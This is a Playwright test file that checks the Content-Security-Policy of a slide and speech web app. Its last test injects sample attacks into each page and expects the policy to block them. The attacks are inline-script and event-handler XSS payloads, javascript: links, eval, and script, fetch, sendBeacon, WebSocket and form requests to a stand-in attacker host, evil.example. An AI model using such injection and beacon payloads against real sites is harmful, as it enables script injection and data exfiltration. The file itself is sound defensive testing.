import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser } from '@playwright/test';
import { makeDocx, p as paragraph } from '../import/docx-file.ts';
import type { StaticHost } from './static-host.ts';
import { expect, test } from './test.ts';

/** The Content-Security-Policy of the built app: that each page has it, that it holds, and that the app lives by it. */

const PAGES = ['index', 'deck', 'handout', 'meeting', 'presenter', 'themes'] as const;

/** What each directive has to be; no other may be there, and none may be missing. */
const POLICY: Readonly<Record<string, string>> = {
  'default-src': "'none'",
  'script-src': "'self'",
  'style-src': "'self' 'unsafe-inline'",
  'img-src': "'self' data: blob:",
  'font-src': "'self' data:",
  'connect-src': "'self'",
  'frame-src': "'self' blob:",
  'worker-src': "'self'",
  'manifest-src': "'self'",
  'base-uri': "'none'",
  'form-action': "'none'",
  'object-src': "'none'",
};

for (const name of PAGES)
  test(`${name}.html begins with the policy, and has no script of its own`, async ({ builtPages }) => {
    const html = await readFile(join(builtPages, `${name}.html`), 'utf8');
    const [, policy = ''] = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html) ?? [];
    const directives = policy
      .replaceAll('&#39;', "'")
      .split('; ')
      .map((directive) => directive.split(/ (.*)/s, 2));
    expect(Object.fromEntries(directives)).toEqual(POLICY);
    // It counts only for what comes after it.
    expect(html.indexOf('<meta http-equiv="Content-Security-Policy"')).toBeLessThan(
      html.search(/<(?:script|link|style|base)\b/),
    );
    for (const [, attributes, inside] of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)) {
      expect(attributes).toMatch(/\bsrc="\.\//);
      expect(inside).toBe('');
    }
    expect(html).not.toMatch(/\son\w+\s*=|javascript:|\b(?:src|href)="(?:https?:)?\/\//i);
  });

test('index.html says what to do only where it was opened from disk', async ({
  browser,
  builtPages,
  staticHost,
}) => {
  // Not the page of the fixtures: from disk the browser reports what it refuses, as expected.
  const page = await browser.newPage();
  const sentence = page.locator('.opened-from-disk');
  await page.goto(pathToFileURL(join(builtPages, 'index.html')).href);
  await expect(sentence.locator('p')).toHaveCount(3);
  await expect(sentence).toBeVisible();
  await page.goto(staticHost.url);
  await expect(page.locator('jiangtai-app')).toBeVisible();
  await expect(sentence).toBeHidden();
  await page.close();
});

/**
 * A window that tells every violation in any of its pages and frames.
 *
 * @returns the window, and what was told: violations, requests to another origin, errors nobody caught
 */
async function openContext(browser: Browser, host: StaticHost) {
  const events: string[] = [];
  const context = await browser.newContext();
  await context.exposeFunction('tellViolation', (what: string) => void events.push(what));
  await context.addInitScript(() => {
    const { tellViolation } = window as unknown as { tellViolation: (what: string) => void };
    document.addEventListener('securitypolicyviolation', (event) =>
      tellViolation(`${event.violatedDirective} ${event.blockedURI} in ${location.pathname}`),
    );
    window.print = () => undefined;
    const handle = async () =>
      (await navigator.storage.getDirectory()).getFileHandle('我的讲话.txt', { create: true });
    Object.assign(window, { showOpenFilePicker: async () => [await handle()], showSaveFilePicker: handle });
  });
  context.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) events.push(message.text());
  });
  context.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(host.url) && !/^(data|blob|about|chrome):/.test(url)) events.push(`asked ${url}`);
  });
  context.on('requestfailed', (request) => {
    const why = request.failure()?.errorText;
    // Its page was loaded again or left: nobody waits for the font any more.
    if (why !== 'net::ERR_ABORTED') events.push(`${why === 'csp' ? 'blocked' : 'failed'} ${request.url()}`);
  });
  context.on('weberror', (error) => events.push(error.error().message));
  return { context, events };
}

test('a whole visit breaks it nowhere', async ({ browser, host }) => {
  const { context, events } = await openContext(browser, host);
  const page = await context.newPage();
  const byTestId = (id: string) => page.locator(`[data-testid="${id}"]`);
  const text = () => page.locator('.cm-content').textContent();
  const saved = () => expect.poll(() => byTestId('save-state').getAttribute('data-state')).toBe('saved');
  const deck = page.frameLocator('#deck-frame');
  await page.goto(`${host.url}#file=kaixue-dianli.md`);
  await expect.poll(text).toContain('尊敬的各位老师');
  await expect.poll(() => deck.locator('section').count()).toBeGreaterThan(5);
  await page.locator('.cm-line', { hasText: '尊敬的各位老师' }).click();
  await page.keyboard.press('End');
  await page.keyboard.insertText('大家好！');
  await saved();

  // Pictures, versions, repairs and settings in the text.
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  );
  await byTestId('picture-file').setInputFiles({ name: '校门.png', mimeType: 'image/png', buffer: png });
  await expect.poll(text).toContain('图片　校门');
  await saved();
  await page.locator('[data-testid="speech-item"][data-name="kaixue-dianli.md"]').focus();
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await page.getByRole('menuitem', { name: '历史版本…' }).click();
  await expect.poll(() => page.locator('difference-view ins').first().textContent()).toContain('大家好！');
  await byTestId('version-restore').click();
  await expect.poll(text).not.toContain('大家好！');
  await saved();

  // Everything that is shown: pages, grid, the show, the presenter's window, the pages for the printer.
  await byTestId('slides-grid').click();
  await expect.poll(() => page.frameLocator('#grid-frame').locator('.thumbnail').count()).toBeGreaterThan(5);
  await byTestId('slides-grid').click();
  const opened = context.waitForEvent('page');
  await byTestId('button-speaker').click();
  const speaker = await opened;
  await expect.poll(() => speaker.locator('.spoken').textContent()).not.toBe('');
  await speaker.keyboard.press('PageDown');
  await speaker.close();
  await byTestId('button-present').click();
  await expect.poll(() => page.evaluate(() => document.fullscreenElement !== null)).toBe(true);
  await page.keyboard.press('PageDown');
  await page.evaluate(() => document.exitFullscreen());
  await byTestId('tab-handout').click();
  const pages = page.frameLocator('#handout-frame').locator('.pagedjs_page');
  await expect.poll(() => pages.count()).toBeGreaterThan(1);
  await byTestId('button-print').click();
  await byTestId('print-now').click();

  // Files in and out.
  await byTestId('list-menu').locator('button').first().click();
  const packing = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: '全部导出为 .zip' }).click();
  const archive = await readFile(await (await packing).path());
  await byTestId('open-archive').setInputFiles({ name: 'all.zip', mimeType: '', buffer: archive });
  await expect.poll(() => byTestId('imported-bar').count()).toBe(1);
  await byTestId('open-files').setInputFiles({
    name: '党课.docx',
    mimeType: '',
    buffer: Buffer.from(makeDocx({ body: paragraph('学习讲话') + paragraph('同志们：') })),
  });
  await expect.poll(text).toContain('学习讲话');
  await page.keyboard.press('Control+Shift+S');
  await expect.poll(() => byTestId('own-saved-bar').count()).toBe(1);
  await byTestId('button-open').click();
  await expect.poll(() => page.locator('[data-testid="speech-item"]').count()).toBe(6);
  await byTestId('list-search').locator('input').or(byTestId('list-search')).first().fill('学习');
  await byTestId('select-language').selectOption('en');
  await page.reload();
  await expect.poll(text).not.toBe('');
  await expect
    .poll(() => page.frameLocator('#handout-frame').locator('.pagedjs_page').count())
    .toBeGreaterThan(0);
  expect(events).toEqual([]);
  await context.close();
});

for (const name of PAGES)
  test(`in ${name}.html nothing strange runs, loads or leaves`, async ({ browser, host }) => {
    const { context, events } = await openContext(browser, host);
    const page = await context.newPage();
    await page.goto(`${host.url}${name}.html`);
    await page.evaluate(() => document.fonts.ready.then(() => undefined));
    // By itself it breaks nothing.
    expect(events).toEqual([]);
    const ran = await page.evaluate(async () => {
      const ran: string[] = [];
      Object.assign(window, { ran: (what: string) => ran.push(what) });
      const put = (html: string) => {
        const place = document.createElement('div');
        // As a hole in the page would.
        place.innerHTML = html;
        document.body.append(place);
        return place;
      };
      const script = document.createElement('script');
      script.textContent = 'ran("inline script")';
      document.body.append(script);
      const foreign = document.createElement('script');
      foreign.src = 'https://evil.example/x.js';
      document.body.append(foreign);
      const blob = document.createElement('script');
      blob.src = URL.createObjectURL(new Blob(['ran("script from a blob")']));
      document.body.append(blob);
      put('<img src="data:," onerror="ran(\'inline handler\')">');
      put('<a href="javascript:ran(\'address\')">x</a>').querySelector('a')!.click();
      put('<iframe srcdoc="<script>parent.ran(\'framed script\')</script>"></iframe>');
      put('<img src="https://evil.example/pixel.png">');
      put('<iframe src="https://evil.example/"></iframe>');
      put('<object data="https://evil.example/x"></object>');
      put('<link rel="stylesheet" href="https://evil.example/x.css">');
      put(
        '<style>@font-face{font-family:evil;src:url(https://evil.example/f.woff2)} body{font-family:evil}</style>',
      );
      put('<base href="https://evil.example/">');
      put('<form action="https://evil.example/"><input name="a"></form>').querySelector('form')!.submit();
      // Until the browser's tools have let go of the page: what they ask for may use eval.
      await new Promise((done) => requestAnimationFrame(done));
      try {
        // biome-ignore lint/security/noGlobalEval: it must be refused
        window.eval('ran("eval")');
      } catch {
        // as it should
      }
      try {
        new Function('ran("new Function")')();
      } catch {
        // as it should
      }
      await fetch('https://evil.example/').catch(() => undefined);
      navigator.sendBeacon('https://evil.example/', 'text');
      try {
        new WebSocket('wss://evil.example/');
        new EventSource('https://evil.example/');
        new Worker('https://evil.example/x.js');
      } catch {
        // another origin's worker is refused anyway
      }
      // Each of them has had its turn when these are told.
      for (let turn = 0; turn < 5; turn++) await new Promise((done) => requestAnimationFrame(done));
      return [...ran, ...(document.baseURI.startsWith(location.origin) ? [] : ['base'])];
    });
    expect(ran).toEqual([]);
    const strange = (kind: string) =>
      events
        .filter((event) => event.startsWith(`${kind} https://`))
        .map((event) => event.slice(kind.length + 1));
    // The browser's tools see the wish; the policy is why nothing came of it.
    await expect.poll(() => strange('blocked').sort()).toEqual(strange('asked').sort());
    expect(strange('failed')).toEqual([]);
    for (const told of [
      /^script-src-elem inline/,
      /^script-src-elem https:\/\/evil/,
      /^script-src-elem blob/,
      /^script-src-attr inline/,
      /^script-src eval/,
      /^img-src https:\/\/evil/,
      /^frame-src https:\/\/evil/,
      /^object-src https:\/\/evil/,
      /^style-src-elem https:\/\/evil/,
      /^font-src https:\/\/evil/,
      /^connect-src https:\/\/evil/,
      /^connect-src wss:\/\/evil/,
      /^base-uri https:\/\/evil/,
      /^form-action https:\/\/evil/,
    ])
      await expect
        .poll(() => events.filter((event) => told.test(event)), { message: told.source })
        .not.toEqual([]);
    await context.close();
  });
